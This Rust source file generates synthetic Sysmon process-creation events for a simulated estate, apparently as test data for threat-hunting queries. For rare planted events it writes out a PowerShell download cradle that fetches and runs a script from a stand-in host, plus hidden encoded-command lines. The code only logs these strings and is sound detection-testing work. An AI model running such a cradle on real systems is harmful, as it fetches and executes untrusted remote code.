//! One process creation of the estate, as Sysmon 15 logs it: a function of the seed and of its number alone.

use crate::clock::{self, DAY};
use crate::dice::Dice;
use crate::estate::{Estate, Kind, Program};
use crate::event::{Event, SYSMON, Value, text};

/// A browser that starts PowerShell is what the hunting queries look for: a needle in the hay, yet found in small data too.
const LURED_ONE_IN: u64 = 2_000;
const SCRIPTED_ONE_IN: u64 = 5_000;

pub fn creation(estate: &Estate, seed: u64, number: u64, time: i64) -> Event {
    let mut dice = Dice::numbered(seed, number);
    let computer = one(&mut dice, &estate.machines).to_owned();
    let story = Story::of(&mut dice);
    let (program, parent) = programs(estate, &story, &mut dice);
    let is_system = story == Story::Work && dice.between(0, 10) < 4;
    let user = if is_system { dice.pick(&SYSTEM).unwrap_or_default() } else { one(&mut dice, &estate.people) };
    let command = command(program, &story, user, &mut dice);
    let home = if is_system { "C:\\Windows\\system32\\" } else { "C:\\Users\\Public\\" };
    // A parent runs all day, so that its children name the same one.
    let mut running = Dice::of(&format!("{computer} {} {}", parent.image, time / DAY));
    let logon = running.between(0x10_000, 0xfff_ffff);
    let data = vec![
        ("RuleName", text("-")),
        ("UtcTime", text(clock::utc(time))),
        ("ProcessGuid", guid(&mut dice)),
        ("ProcessId", Value::Number(dice.between(200, 16_000) * 4)),
        ("Image", text(program.image.as_str())),
        ("Description", text(program.details.0)),
        ("Company", text(program.details.2)),
        ("OriginalFileName", text(program.details.3)),
        ("CommandLine", text(command)),
        ("CurrentDirectory", text(home)),
        ("User", text(user)),
        ("LogonId", Value::Hex(logon)),
        ("IntegrityLevel", text(if is_system { "System" } else { "Medium" })),
        ("Hashes", text(program.hashes.as_str())),
        ("ParentProcessGuid", guid(&mut running)),
        ("ParentProcessId", Value::Number(running.between(200, 16_000) * 4)),
        ("ParentImage", text(parent.image.as_str())),
        ("ParentCommandLine", text(format!("\"{}\"", parent.image))),
    ];
    Event { source: &SYSMON, id: 1, version: 5, task: 1, time, record: number + 1, computer, data }
}

#[derive(PartialEq, Eq)]
enum Story {
    Work,
    /// A browser starts PowerShell, with an encoded command or a download.
    Lured,
    /// PowerShell downloads from a script that an administrator runs.
    Scripted,
}

impl Story {
    fn of(dice: &mut Dice) -> Story {
        if dice.one_in(LURED_ONE_IN) {
            Story::Lured
        } else if dice.one_in(SCRIPTED_ONE_IN) {
            Story::Scripted
        } else {
            Story::Work
        }
    }
}

/// The program and its parent.
fn programs<'a>(estate: &'a Estate, story: &Story, dice: &mut Dice) -> (&'a Program, &'a Program) {
    let script = estate.kind(Kind::PowerShell, 0).unwrap_or_else(|| often(estate, dice));
    match story {
        Story::Lured => (script, estate.kind(Kind::Browser, dice.next()).unwrap_or(script)),
        Story::Scripted => (script, estate.kind(Kind::Shell, 0).unwrap_or(script)),
        Story::Work => {
            let program = often(estate, dice);
            let parent = match program.kind {
                Kind::Browser => program,
                Kind::Service => estate.kind(Kind::Service, 2).unwrap_or(program),
                // What a person starts never has a browser for a parent, else every hunt would find it.
                _ => Some(often(estate, dice)).filter(|parent| parent.kind != Kind::Browser).unwrap_or(program),
            };
            (program, parent)
        }
    }
}

/// One of the programs, the first ones far more often than the last ones.
fn often<'a>(estate: &'a Estate, dice: &mut Dice) -> &'a Program {
    let share = dice.between(0, 1 << 20);
    let place = (estate.programs.len() as u64 * share * share / (1 << 20) * share) >> 40;
    estate.programs.get(usize::try_from(place).unwrap_or(0)).unwrap_or(&estate.programs[0])
}

fn command(program: &Program, story: &Story, user: &str, dice: &mut Dice) -> String {
    let image = program.image.as_str();
    let person = user.rsplit('\\').next().unwrap_or(user);
    let (token, port) = (dice.hex(16).to_lowercase(), dice.between(1_000, 60_000));
    match (story, program.kind) {
        (Story::Lured, _) if port % 2 == 0 => {
            format!("powershell.exe -NoP -W Hidden -EncodedCommand {}", dice.hex(80))
        }
        (Story::Lured | Story::Scripted, _) => format!(
            "powershell.exe -NoProfile -Command \"IEX (New-Object Net.WebClient).DownloadString('http://files.example.com:{port}/{token}.ps1')\""
        ),
        (_, Kind::Browser) => format!(
            "\"{image}\" --type=renderer --lang=en-US --field-trial-handle={port},{token} /prefetch:{}",
            port % 9
        ),
        (_, Kind::PowerShell) => format!(
            "powershell.exe -NoProfile -ExecutionPolicy AllSigned -File \"C:\\ProgramData\\Inventory\\{token}\\collect.ps1\" -Owner {person} -Port {port}"
        ),
        (_, Kind::Shell) => format!(
            "{image} /c \"\"C:\\Users\\{person}\\AppData\\Local\\Temp\\{token}.cmd\" {port} > \"C:\\Windows\\Temp\\{token}.log\" 2>&1\""
        ),
        (_, Kind::Service) => format!(
            "{image} -k LocalSystemNetworkRestricted -p -s Service{port} -Instance {{{token}}} -Log C:\\Windows\\Temp\\{port}.etl"
        ),
        (_, Kind::Tool) => {
            format!("\"{image}\" --config \"C:\\ProgramData\\Jobs\\{token}.json\" --owner {person} --port {port}")
        }
    }
}

fn guid(dice: &mut Dice) -> Value {
    let digits = dice.hex(32);
    let part = |from: usize, to: usize| digits.get(from..to).unwrap_or_default();
    Value::Guid(format!("{}-{}-{}-{}-{}", part(0, 8), part(8, 12), part(12, 16), part(16, 20), part(20, 32)))
}

fn one<'a>(dice: &mut Dice, list: &'a [String]) -> &'a str {
    let at = usize::try_from(dice.between(0, list.len() as u64)).unwrap_or(0);
    list.get(at).map_or("", String::as_str)
}

const SYSTEM: [&str; 3] = ["NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE", "NT AUTHORITY\\NETWORK SERVICE"];
